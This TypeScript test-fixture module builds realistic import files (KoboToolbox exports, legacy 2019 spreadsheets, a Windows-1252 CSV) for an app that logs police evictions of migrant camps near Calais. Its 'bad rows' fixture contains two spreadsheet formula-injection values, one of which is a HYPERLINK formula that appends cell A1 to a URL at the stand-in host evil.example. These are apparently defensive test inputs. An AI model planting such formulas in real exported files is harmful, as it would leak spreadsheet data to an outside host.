import { randomUUID } from 'node:crypto';
import ExcelJS from 'exceljs';

/*
 * Real-shaped files for the import tests, written by the tests themselves: a KoboToolbox export
 * (XLSX and CSV, French labels with group prefixes and the server's `_` columns), a legacy
 * spreadsheet of the kind observatories kept since 2017 (one column per seized item, a free-form
 * forces column), in XLSX and in a Windows-1252 CSV, and a file of bad rows.
 */

/** A table of text cells, the header first. */
export type Sheet = readonly (readonly string[])[];

/** An uploadable file: its bytes, its name and the media type a browser would send. */
export interface ImportFile {
  bytes: Buffer;
  name: string;
  type: string;
}

export const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

/** Characters of Windows-1252 outside Latin-1 that French text uses (the rest is Latin-1). */
const CP1252_EXTRA: Readonly<Record<string, number>> = {
  '€': 0x80,
  '…': 0x85,
  '‘': 0x91,
  '’': 0x92,
  '“': 0x93,
  '”': 0x94,
  '–': 0x96,
  '—': 0x97,
  œ: 0x9c,
  Œ: 0x8c,
};

/** Text as a Windows-1252 spreadsheet program saves it (Excel's "CSV (séparateur: point-virgule)"). */
export function windows1252(text: string): Buffer {
  return Buffer.from(
    [...text].map((char) => {
      const extra = CP1252_EXTRA[char];
      if (extra !== undefined) return extra;
      const code = char.codePointAt(0)!;
      if (code > 0xff || (code >= 0x80 && code < 0xa0)) throw new Error(`not in Windows-1252: ${char}`);
      return code;
    }),
  );
}

/** CSV text: cells quoted when they hold the delimiter, a quote or a line break; CRLF lines. */
export function csvText(sheet: Sheet, delimiter = ','): string {
  const quote = (cell: string) =>
    cell.includes(delimiter) || /["\r\n]/.test(cell) ? `"${cell.replace(/"/g, '""')}"` : cell;
  return sheet.map((row) => row.map(quote).join(delimiter)).join('\r\n') + '\r\n';
}

export function csvFile(sheet: Sheet, name: string, options: { delimiter?: string; bom?: boolean } = {}) {
  const text = csvText(sheet, options.delimiter ?? ',');
  return { bytes: Buffer.from((options.bom ? '\uFEFF' : '') + text, 'utf8'), name, type: 'text/csv' };
}

/** A cell of a workbook: text, or a value a spreadsheet program stores typed. */
export type XlsxCell = string | number | boolean | Date | null | { formula: string; result?: string };

/**
 * An XLSX workbook with the sheets given in order (exceljs, as the tests' own writer); a list of
 * pairs, not an object, since an object puts a sheet named "2019" first.
 */
export async function xlsxFile(
  sheets: readonly (readonly [string, readonly (readonly XlsxCell[])[]])[],
  name: string,
): Promise<ImportFile> {
  const workbook = new ExcelJS.Workbook();
  for (const [sheetName, rows] of sheets) {
    const worksheet = workbook.addWorksheet(sheetName);
    for (const row of rows) worksheet.addRow([...row]);
  }
  const bytes = Buffer.from(await workbook.xlsx.writeBuffer());
  return { bytes, name, type: XLSX_TYPE };
}

/*
 * KoboToolbox export, "labels" headers: the form's groups prefix its questions with `/`; the
 * server adds `_id`, `_uuid`, `_submission_time` (UTC), `_geolocation` and the geopoint's parts.
 */
export const KOBO_HEADERS = [
  'start',
  'end',
  'Informations générales/Date de l’expulsion',
  'Informations générales/Type d’opération',
  'Lieu/Coordonnées GPS',
  'Lieu/_Coordonnées GPS_latitude',
  'Lieu/_Coordonnées GPS_longitude',
  'Lieu/_Coordonnées GPS_altitude',
  'Lieu/_Coordonnées GPS_precision',
  'Forces de l’ordre/Unités présentes',
  'Bilan/Personnes expulsées',
  'Bilan/Interpellations',
  'Bilan/Remarques',
  '_id',
  '_uuid',
  '_submission_time',
  '_geolocation',
  '_status',
  '_submitted_by',
  '_index',
] as const;

/** One KoboToolbox submission, as its export row gives it. */
export interface KoboSubmission {
  uuid: string;
  id: number;
  /** Local wall clock of the observation, `YYYY-MM-DDTHH:mm` (the form's datetime question). */
  startedAt: string;
  kind: string;
  lat: string;
  lon: string;
  units: string;
  evicted: string;
  arrests: string;
  notes: string;
}

/** Three clean submissions from Calais and Grande-Synthe in March 2021, each with a new `_uuid`. */
export function koboSubmissions(notesWord: string): KoboSubmission[] {
  return [
    {
      uuid: randomUUID(),
      id: 101,
      startedAt: '2021-03-02T07:15',
      kind: 'Expulsion',
      lat: '50.9513',
      lon: '1.8587',
      units: 'crs gm',
      evicted: '35',
      arrests: '2',
      notes: `Passage au petit matin ${notesWord}`,
    },
    {
      uuid: randomUUID(),
      id: 102,
      startedAt: '2021-03-09T08:00',
      kind: 'Dispersion',
      lat: '51.0136',
      lon: '2.303',
      units: 'pn',
      evicted: '0',
      arrests: '0',
      notes: `Dispersion d’un groupe ${notesWord}`,
    },
    {
      uuid: randomUUID(),
      id: 103,
      startedAt: '2021-03-16T06:45',
      kind: 'Expulsion de grande ampleur',
      lat: '50.9520',
      lon: '1.8601',
      units: 'crs gm pn',
      evicted: '120',
      arrests: '7',
      notes: `Grande opération ${notesWord}`,
    },
  ];
}

function koboRow(submission: KoboSubmission): string[] {
  const { lat, lon } = submission;
  return [
    `${submission.startedAt.slice(0, 10)}T06:00:00.000+01:00`,
    `${submission.startedAt.slice(0, 10)}T10:00:00.000+01:00`,
    `${submission.startedAt}:00.000+01:00`,
    submission.kind,
    `${lat} ${lon} 12 5`,
    lat,
    lon,
    '12',
    '5',
    submission.units,
    submission.evicted,
    submission.arrests,
    submission.notes,
    String(submission.id),
    submission.uuid,
    // `_submission_time` is UTC, without an offset, as KoboToolbox writes it.
    `${submission.startedAt.slice(0, 10)}T12:30:00`,
    `[${lat}, ${lon}]`,
    'submitted_via_web',
    'observateur1',
    String(submission.id - 100),
  ];
}

/** The KoboToolbox "XLS" export (labels, `/` group separator), sheet named as Kobo names it. */
export function koboXlsx(submissions: readonly KoboSubmission[]): Promise<ImportFile> {
  return xlsxFile(
    [['Observations - labels', [[...KOBO_HEADERS], ...submissions.map(koboRow)]]],
    'Observations_expulsions_-_all_versions_-_labels_-_2021-04-01-10-00-00.xlsx',
  );
}

/** The KoboToolbox CSV export: `;` separated, UTF-8 with a BOM. */
export function koboCsv(submissions: readonly KoboSubmission[]): ImportFile {
  return csvFile(
    [[...KOBO_HEADERS], ...submissions.map(koboRow)],
    'Observations_expulsions_-_all_versions_-_labels_-_2021-04-01-10-00-00.csv',
    { delimiter: ';', bom: true },
  );
}

/*
 * A legacy spreadsheet: one line per operation, a free-form forces column, one column per seized
 * item and one for what was destroyed, dates as dd/MM/yyyy, times apart.
 */
export const LEGACY_HEADERS = [
  'N° fiche',
  'Date',
  'Heure',
  'GPS',
  'Forces',
  'Personnes expulsées',
  'Interpellations',
  'Tentes',
  'Tentes détruites',
  'Sacs de couchage',
  'Couvertures',
  'Remarques',
] as const;

export type LegacyRow = Record<(typeof LEGACY_HEADERS)[number], string>;

/**
 * Four operations of 2019 written as volunteers wrote them: forces in four different ways. The
 * record numbers end with `notesWord`, so that test files sharing a database never meet.
 */
export function legacyRows(notesWord: string): LegacyRow[] {
  return [
    {
      'N° fiche': `L-2019-001-${notesWord}`,
      Date: '05/02/2019',
      Heure: '07:30',
      GPS: '50,9513 ; 1,8587',
      Forces: 'CRS, GM',
      'Personnes expulsées': '40',
      Interpellations: '1',
      Tentes: '12',
      'Tentes détruites': 'oui',
      'Sacs de couchage': '8',
      Couvertures: '',
      Remarques: `Tentes lacérées ${notesWord}`,
    },
    {
      'N° fiche': `L-2019-002-${notesWord}`,
      Date: '07/02/2019',
      Heure: '08:00',
      GPS: '50.9513, 1.8587',
      Forces: 'C.R.S.',
      'Personnes expulsées': '25',
      Interpellations: '0',
      Tentes: '3',
      'Tentes détruites': 'non',
      'Sacs de couchage': '',
      Couvertures: '4',
      Remarques: `Évacuation rapide ${notesWord}`,
    },
    {
      'N° fiche': `L-2019-003-${notesWord}`,
      Date: '12/02/2019',
      Heure: '06:45',
      GPS: '51.0136, 2.303',
      Forces: 'Compagnies républicaines de sécurité',
      'Personnes expulsées': '60',
      Interpellations: '3',
      Tentes: '20',
      'Tentes détruites': 'ne sait pas',
      'Sacs de couchage': '15',
      Couvertures: '10',
      Remarques: `Grande-Synthe, bois du Puythouck ${notesWord}`,
    },
    {
      'N° fiche': `L-2019-004-${notesWord}`,
      Date: '19/02/2019',
      Heure: '07:00',
      GPS: '50.9520, 1.8601',
      Forces: 'crs gm pn',
      'Personnes expulsées': '15',
      Interpellations: '0',
      Tentes: '0',
      'Tentes détruites': '',
      'Sacs de couchage': '',
      Couvertures: '',
      Remarques: `Présence d’un huissier ${notesWord}`,
    },
  ];
}

export function legacySheet(rows: readonly LegacyRow[]): string[][] {
  return [[...LEGACY_HEADERS], ...rows.map((row) => LEGACY_HEADERS.map((header) => row[header]))];
}

/** The legacy sheet as XLSX: a summary sheet first, the data on the sheet named "2019". */
export function legacyXlsx(rows: readonly LegacyRow[]): Promise<ImportFile> {
  return xlsxFile(
    [
      ['Synthèse', [['Bilan annuel'], ['Expulsions', rows.length]]],
      ['2019', legacySheet(rows)],
    ],
    'suivi-expulsions-2019.xlsx',
  );
}

/** The legacy sheet as Excel saves "CSV (séparateur: point-virgule)" on Windows: `;`, Windows-1252. */
export function legacyCsv1252(rows: readonly LegacyRow[]): ImportFile {
  return { bytes: windows1252(csvText(legacySheet(rows), ';')), name: 'suivi-2019.csv', type: 'text/csv' };
}

/** The mapping of the legacy sheet, as a user settles it in the wizard. */
export function legacyMapping(): Record<string, unknown> {
  return {
    columns: {
      'N° fiche': 'sourceId',
      Date: 'startedAt.date',
      Heure: 'startedAt.time',
      GPS: 'location',
      Forces: 'forces',
      'Personnes expulsées': 'peopleEvicted',
      Interpellations: 'arrests',
      Tentes: 'seizures.tent.quantity',
      'Tentes détruites': 'seizures.tent.destroyed',
      'Sacs de couchage': 'seizures.sleeping_bag.quantity',
      Couvertures: 'seizures.blanket.quantity',
      Remarques: 'description',
    },
    values: {},
    timezone: 'Europe/Paris',
    dateFormat: 'dd/MM/yyyy',
    sourceIdColumn: 'N° fiche',
    defaults: { kind: 'eviction' },
  };
}

/** Headers of the file of bad rows (and of its corrected copies). */
export const BAD_HEADERS = ['Référence', 'Date', 'Type', 'Latitude', 'Longitude', 'Expulsés', 'Remarques'];

/**
 * Rows each wrong in one way a real file is, between good ones, with empty lines (the spreadsheet
 * rows keep their numbers). `notes` makes each file's content and references its own; `year` keeps
 * the mornings of files committed by different test files apart (each would see the other's
 * records as possible duplicates).
 */
export function badRows(notes: string, year = 2021): string[][] {
  return [
    [...BAD_HEADERS],
    [`B-1-${notes}`, `04/03/${year} 07:30`, 'Expulsion', '50,9513', '1,8587', '30', `Bonne ligne ${notes}`],
    [
      `B-2-${notes}`,
      `31/02/${year} 07:30`,
      'Expulsion',
      '50.9513',
      '1.8587',
      '10',
      `Date impossible ${notes}`,
    ],
    ['', '', '', '', '', '', ''],
    [`B-3-${notes}`, `05/03/${year} 08:00`, 'Expulsion', '1.8587', '50.9513', '10', `Inversées ${notes}`],
    [
      `B-4-${notes}`,
      `06/03/${year} 08:00`,
      'Évacuation musclée',
      '50.9513',
      '1.8587',
      '10',
      `Code inconnu ${notes}`,
    ],
    ['', '', '', '', '', '', ''],
    ['', '', '', '', '', '', ''],
    [
      `B-5-${notes}`,
      `07/03/${year} 09:15`,
      '=HYPERLINK("http://evil.example/","x")',
      '51.0136',
      '2.303',
      '0',
      notes,
    ],
    [
      `B-6-${notes}`,
      `08/03/${year} 09:15`,
      'Dispersion',
      '51,0136',
      '2,303',
      '0',
      `=HYPERLINK("http://evil.example/?d="&A1,"cliquer") ${notes}`,
    ],
  ];
}

export const BAD_MAPPING = {
  columns: {
    Référence: 'sourceId',
    Date: 'startedAt',
    Type: 'kind',
    Latitude: 'location.latitude',
    Longitude: 'location.longitude',
    Expulsés: 'peopleEvicted',
    Remarques: 'description',
  },
  values: {},
  timezone: 'Europe/Paris',
  dateFormat: 'dd/MM/yyyy HH:mm',
  sourceIdColumn: 'Référence',
};

/** Bytes no spreadsheet program writes as text: a PNG header and NUL bytes. */
export function binaryBytes(): Buffer {
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d]),
    Buffer.alloc(2000, 0),
  ]);
}
